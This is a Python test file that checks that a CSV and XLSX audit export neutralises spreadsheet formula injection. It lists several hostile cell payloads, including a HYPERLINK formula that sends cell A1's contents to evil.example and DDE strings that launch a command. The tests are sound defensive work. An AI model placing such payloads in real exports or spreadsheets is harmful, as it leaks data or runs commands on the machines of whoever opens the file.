"""Formula injection: hostile text in a CSV or XLSX export never runs as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from audit.export.csvfile import write_csv
from audit.export.formulas import neutralise, starts_like_formula
from audit.export.packs import Pack, PackAlert, PackFinding, PackMessage, PackReview
from audit.export.xlsx import write_xlsx

T0 = dt.datetime(2026, 11, 16, 2, 0, tzinfo=dt.UTC)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击领取")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        *((h, "'" + h) for h in HOSTILE),
        ("你好 =1+1", "你好 =1+1"),  # not at the start: Excel reads text
        ("a-b", "a-b"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_when_a_cell_starts_like_a_formula_then_a_quote_is_put_in_front(
    text: str, expected: str
) -> None:
    assert neutralise(text) == expected
    assert starts_like_formula(text) == (expected != text)


def _pack() -> Pack:
    finding = PackFinding("abuse", "abuse.word", "high", 0, 3, "=SU", "=HYPERLINK explanation")
    messages = (
        *(
            PackMessage(i + 1, T0, "customer", HOSTILE[0], "text", h, False)
            for i, h in enumerate(HOSTILE)
        ),
        PackMessage(99, T0, "staff", "@staff", "text", "=SUM(A1)", False, (finding,)),
    )
    review = PackReview(T0, "-reviewer", "confirm", "open", "confirmed", "=1+2")
    return Pack(
        conversation_id=1,
        kind="bad",
        store_code="=S001",
        store="+store",
        staff="-staff",
        customer='=HYPERLINK("http://evil.example")',
        started_at=T0,
        ended_at=T0,
        messages=messages,
        alerts=(PackAlert(7, "abuse", "high", "confirmed", "=title", (review,)),),
    )


def test_when_csv_then_no_text_cell_starts_like_a_formula() -> None:
    out = io.BytesIO()
    write_csv([_pack()], out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert [r["text"] for r in rows] == ["'" + h for h in HOSTILE] + ["'=SUM(A1)"]
    assert {r["customer"] for r in rows} == {'\'=HYPERLINK("http://evil.example")'}
    assert {(r["store_code"], r["store"], r["staff"]) for r in rows} == {
        ("'=S001", "'+store", "'-staff")
    }
    assert [r["sender"] for r in rows][-1] == "'@staff"
    cells = [v for r in rows for v in r.values()]
    assert not [v for v in cells if starts_like_formula(v)]


def test_when_xlsx_then_formula_like_text_is_a_string_cell() -> None:
    out = io.BytesIO()
    write_xlsx([_pack()], out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not [s for s in sheets if "<f>" in s or "<f " in s]
    wb = load_workbook(io.BytesIO(out.getvalue()))
    values = {
        cell.value: cell.data_type
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    }
    # the text is exported as typed (a string cell needs no quote) and is text, not a formula
    assert set(values) >= {HOSTILE[0], "=S001", '=HYPERLINK("http://evil.example")', "=1+2"}
    assert set(values.values()) == {"s"}
